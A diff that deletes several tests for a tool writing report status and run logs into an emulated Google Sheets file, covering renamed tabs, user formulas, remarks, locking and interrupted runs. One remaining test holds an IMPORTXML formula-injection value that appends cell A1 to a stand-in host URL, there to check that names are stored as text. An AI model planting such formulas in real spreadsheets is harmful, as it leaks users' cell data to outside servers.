@@ -61,50 +61,6 @@ describe('the logs of a file', () => {
     expect(JSON.stringify(sheet.batches[2]).match(/numberValue|stringValue/g)).toHaveLength(1);
   });
 
-  it('use a sheet that was renamed and moved, make a deleted sheet again, and leave a tab of that title alone', () => {
-    const { sheet, write, column } = writtenLogs();
-    sheet.tab(STATUS).title = 'How it stands';
-    sheet.moveTab(LOG, 0);
-    write({ ...ORDER, status: [savedReport('r1', { name: 'Renamed' })] });
-    expect(column('How it stands', 0)).toEqual(['Renamed']);
-    sheet.removeTab(LOG);
-    sheet.addTab(LOG, 7);
-    sheet.enter(LOG, 0, 0, 'Marathon');
-    write({ ...ORDER, runs: [loggedRun(5)] });
-    expect([sheet.shown(LOG), column('Run log 2', RUN)]).toEqual([[['Marathon']], ['run5']]);
-  });
-
-  it('keep the columns, rows, order and formulas of the user', () => {
-    const { sheet, write, rows } = writtenLogs();
-    sheet.enter(LOG, 3, 16, 'asked support');
-    sheet.insert(LOG, 'COLUMNS', 4);
-    sheet.enter(LOG, 3, 4, 'ticket 12');
-    sheet.enter(STATUS, 4, 0, 'Reports of Bo: see the other file');
-    sheet.enter(STATUS, 4, 11, '=SUM(L3:L4)');
-    write({ status: [savedReport('r0'), ...ORDER.status], runs: [loggedRun(0)] });
-    const log = sheet.shown(LOG);
-    expect([log[4]![3], log[4]![4], log[4]![17]]).toEqual(['Daily revenue', 'ticket 12', 'asked support']);
-    sheet.tab(LOG).edit((rows) => rows.splice(2, 3, ...rows.slice(2, 5).reverse()));
-    write({ status: [savedReport('r0'), ...ORDER.status], runs: [loggedRun(-1)] });
-    expect(rows(LOG).map((cells) => cells[RUN + 1])).toEqual(['run-1', 'run2', 'run1', 'run0']);
-    expect(rows(STATUS).map(([name]) => name)).toEqual([
-      'Report r0',
-      'Report r1',
-      'Retention',
-      'Reports of Bo: see the other file',
-    ]);
-    expect(JSON.stringify(sheet.tab(STATUS).rows[5]!.map(({ formula }) => formula))).toContain('=SUM(L3:L');
-  });
-
-  it('keep a row with a remark of the user, with a mark, after its report is deleted', () => {
-    const { sheet, write, rows } = writtenLogs();
-    sheet.enter(STATUS, 2, 20, 'ask Ann');
-    write({ ...ORDER, status: [ORDER.status[1]!] });
-    const notes = sheet.tab(STATUS).rows.flatMap((cells) => cells.map(({ note = '' } = {}) => note));
-    expect(notes).toContain('No report of this file since 21 Nov 2026.');
-    expect([rows(STATUS)[0]![0], rows(STATUS)[0]![20]]).toEqual(['', 'ask Ann']);
-  });
-
   it('contain names as texts, even if they look like formulas', () => {
     const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
     const { sheet, column } = writtenLogs({
@@ -126,33 +82,6 @@ describe('the logs of a file', () => {
       ),
     ]);
     expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
-  });
-
-  it('are not written while another execution has the lock', () => {
-    const sheet = new EmulatedSheets();
-    expect(logsOf(sheet, new FakeClock(NOW), () => false)(ORDER)).toEqual([]);
-    expect([sheet.reads, sheet.batches]).toEqual([[], []]);
-  });
-
-  it('are complete after the next update if Google ended an execution before or after any write', () => {
-    class Killed extends Error {}
-    const values = (sheet: EmulatedSheets) => [STATUS, LOG].map((title) => sheet.shown(title));
-    const whole = values(writtenLogs().sheet);
-    for (const batch of [0, 1])
-      for (const isAfter of [false, true]) {
-        const sheet = new EmulatedSheets();
-        sheet.beforeAndAfter = (nth, isDone) => {
-          if (nth === batch && isDone === isAfter) throw new Killed();
-        };
-        try {
-          logsOf(sheet)(ORDER);
-        } catch (error) {
-          expect(error).toBeInstanceOf(Killed);
-        }
-        sheet.beforeAndAfter = () => {};
-        logsOf(sheet)(ORDER);
-        expect(values(sheet)).toEqual(whole);
-      }
   });
 
   it('show for how many days no hourly check has run, when no code runs any more', () => {
